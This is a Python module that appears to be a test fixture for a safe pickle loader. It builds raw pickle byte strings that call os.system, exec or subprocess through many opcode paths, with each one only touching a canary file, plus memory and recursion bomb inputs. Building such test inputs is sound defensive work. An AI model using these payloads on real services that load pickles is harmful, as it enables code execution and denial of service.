"""Pickles that run code, and pickles that never end, instruction by instruction.

Each payload is the inside of a pickle of protocol 4 that leaves one object on the stack and, opened
carelessly, makes a file whose path it is given. `q` memoises and `h` fetches, by a byte.
"""

from collections.abc import Callable


def text(value: str) -> bytes:
    return b"X" + len(value.encode()).to_bytes(4, "little") + value.encode()


def _system(canary: str) -> bytes:
    return text(f"touch {canary}")


PAYLOADS: dict[str, Callable[[str], bytes]] = {
    "GLOBAL, REDUCE": lambda canary: b"cos\nsystem\n" + _system(canary) + b"\x85R",
    "STACK_GLOBAL, REDUCE": lambda canary: (
        text("os") + text("system") + b"\x93" + _system(canary) + b"\x85R"
    ),
    "builtins": lambda canary: b"cbuiltins\nexec\n" + text(f"open({canary!r}, 'w')") + b"\x85R",
    "by a dotted name": lambda canary: (
        text("shutil") + text("os.system") + b"\x93" + _system(canary) + b"\x85R"
    ),
    "INST": lambda canary: b"(" + _system(canary) + b"isubprocess\ngetoutput\n",
    "OBJ": lambda canary: b"(csubprocess\ngetoutput\n" + _system(canary) + b"o",
    "NEWOBJ": lambda canary: (
        b"cnumpy\nmemmap\n(" + text(canary) + text("uint8") + text("w+") + b"K\x00K\x01t\x81"
    ),
    "NEWOBJ_EX": lambda canary: (
        b"cpathlib\nPath\n" + text(canary) + b"\x85}\x92" + b"q\x01" + b"0"
        b"cpathlib\nPath.touch\nh\x01\x85R"
    ),
    "BUILD": lambda canary: (
        # __setstate__ of a tool that calls: functools.partial, then called.
        b"cfunctools\npartial\ncos\nsystem\n\x85R(cos\nsystem\n(" + _system(canary) + b"t}Ntb)R"
    ),
    "EXT1": lambda canary: b"\x82\x71" + _system(canary) + b"\x85R",
    "EXT2": lambda canary: b"\x83\x71\x00" + _system(canary) + b"\x85R",
    "EXT4": lambda canary: b"\x84\x71\x00\x00\x00" + _system(canary) + b"\x85R",
    "PERSID": lambda canary: b"P" + canary.encode() + b"\n",
    "BINPERSID": lambda canary: text(canary) + b"Q",
    "memoised": lambda canary: b"cos\nsystem\nq\x050h\x05" + _system(canary) + b"\x85R",
    "in a set": lambda canary: b"\x8f(cos\nsystem\n" + _system(canary) + b"\x85R\x90",
}


def hashed() -> bytes:
    parts = [b"K\x01K\x02\x86q\x00"]
    for i in range(60):
        parts.append(b"0h%ch%c\x86q%c" % (i, i, i + 1))
    return b"\x80\x02" + b"".join(parts) + b"0}h\x3cNs."


def laughs() -> bytes:
    parts = [b"]q\x00"]
    for i in range(60):
        parts.append(b"0]q%c(h%ch%ce" % (i + 1, i, i))
    return b"\x80\x02" + b"".join(parts) + b"."


def colliding(count: int = 70_000) -> bytes:
    """Whole numbers of one hash, as the keys of one dict."""
    numbers = (b"\x8a\x0b" + (k * (2**61 - 1)).to_bytes(11, "little") + b"N" for k in range(count))
    return b"\x80\x02}(" + b"".join(numbers) + b"u."


BOMBS: dict[str, Callable[[], bytes]] = {
    "tuples hashed": hashed,
    "lists that laugh": laughs,
    "numbers of one hash": colliding,
    "lists in lists": lambda: b"\x80\x02" + b"]" * 490_000 + b"a" * 489_999 + b".",
    "tuples in tuples": lambda: b"\x80\x02)" + b"\x85" * 990_000 + b"}h\x00Ns.",
    "dicts in dicts": lambda: b"\x80\x02" + b"}" * 300_000 + b"NNs" * 10 + b".",
    "marks": lambda: b"\x80\x02" + b"(" * 990_000 + b".",
    "empty lists": lambda: b"\x80\x02(" + b"]" * 990_000 + b"l.",
    "a number without end": lambda: b"I" + b"9" * 990_000 + b"\n.",
    "a frame of exabytes": lambda: b"\x80\x04\x95" + b"\xff" * 7 + b"\x7f" + b"N.",
    "a text of exabytes": lambda: b"\x80\x04\x8d" + b"\xff" * 7 + b"\x7f" + b"N.",
    "a place of gigabytes": lambda: b"\x80\x02]r\xff\xff\xff\x7f.",
    "one long name": lambda: (
        b"\x80\x02}("
        + text("train")
        + b"}"
        + text("name_list")
        + b"]("
        + text("x" * 400_000)
        + text("x" * 400_000)
        + b"ess"
        + text("test")
        + b"}"
        + text("name_list")
        + b"]sssu."
    ),
}
